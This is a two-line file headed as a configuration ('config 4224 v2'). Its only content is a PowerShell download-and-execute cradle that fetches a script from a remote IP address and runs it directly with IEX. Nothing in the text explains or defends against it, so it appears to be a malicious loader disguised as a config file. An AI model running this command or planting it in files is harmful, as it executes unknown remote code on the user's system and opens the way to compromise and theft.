# config 4224 v2
IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/a.ps1')
